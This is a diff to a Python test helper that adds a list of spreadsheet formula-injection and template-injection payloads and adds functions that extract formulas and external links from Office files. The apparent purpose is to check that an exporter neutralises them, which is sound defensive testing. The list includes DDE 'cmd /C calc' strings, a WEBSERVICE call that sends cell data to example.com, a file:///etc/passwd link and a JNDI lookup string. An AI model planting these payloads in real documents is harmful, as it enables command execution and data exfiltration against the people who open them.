@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 import zipfile
 from pathlib import Path
 
@@ -21,6 +22,39 @@ FORMULAS = (
 )
 """What a spreadsheet would reckon if it were typed."""
 
+INJECTIONS = (
+    *FORMULAS,
+    '=WEBSERVICE("http://example.com/?"&A1)',
+    '=DDE("cmd";"/C calc";"x")',
+    '=IMPORTXML("http://example.com","//a")',
+    '=HYPERLINK("file:///etc/passwd")',
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@import",
+    "＝1+1",
+    "＋1+1",
+    "＠SUM(1,1)",
+    "−2+3",
+    " =1+1",
+    "\n=1+1",
+    "\r=1+1",
+    "'=1+1",
+    '"=1+1"',
+    ";=1+1",
+    "\u200b=1+1",
+    "{=TABLE(A1,B1)}",
+    "<f>1+1</f>",
+    "]]></t></is></c><c><f>1+1</f>",
+    "&#61;1+1",
+    "_x003D_1+1",
+    "http://example.com/x",
+    "mailto:a@example.com",
+    "internal:'首页'!A1",
+    "${jndi:ldap://example.com/a}",
+    "{{ 7*7 }}",
+)
+"""What has been used to make cells, links or templates do something."""
+
 STRANGE = (
     "http://example.com",
     "mailto:a@example.com",
@@ -34,6 +68,7 @@ STRANGE = (
 SPOILT = ("坏\x01字", "坏\x0b字", "坏\ufffe字", "坏\ud800字")
 """Signs that XML cannot hold."""
 
+LEADS = re.compile(r"""HYPERLINK\("#'[^'!"]+'![A-Z]+\d+","[A-Z]+\d+"\)""")
 SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 
 
@@ -65,3 +100,30 @@ def cells_of(path_or_data: Path | bytes, tab: str | None = None) -> list[list[ob
     book = openpyxl.load_workbook(source)
     sheet = book[tab] if tab else book.worksheets[0]
     return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def formulas_of(data: bytes) -> dict[str, str]:
+    """Every formula of a workbook by sheet part and cell, but those by which a finding leads to its cell."""
+    found = {}
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                for cell in etree.fromstring(archive.read(name)).iter(f"{SHEET}c"):
+                    formula = cell.find(f"{SHEET}f")
+                    if formula is not None and not LEADS.fullmatch(formula.text or ""):
+                        found[f"{name} {cell.get('r')}"] = formula.text or ""
+    return found
+
+
+def ways_out(data: bytes) -> set[str]:
+    """Where the links of a workbook or a Word file lead outside it, and the fields of a Word file."""
+    found = set()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.endswith(".rels"):
+                items = etree.fromstring(archive.read(name))
+                found |= {item.get("Target") for item in items if item.get("TargetMode") == "External"}
+            elif name.startswith("word/") and name.endswith(".xml"):
+                marks = etree.fromstring(archive.read(name)).iter("{*}instrText", "{*}fldSimple")
+                found |= {mark.text or "".join(map(str, mark.attrib.values())) for mark in marks}
+    return found
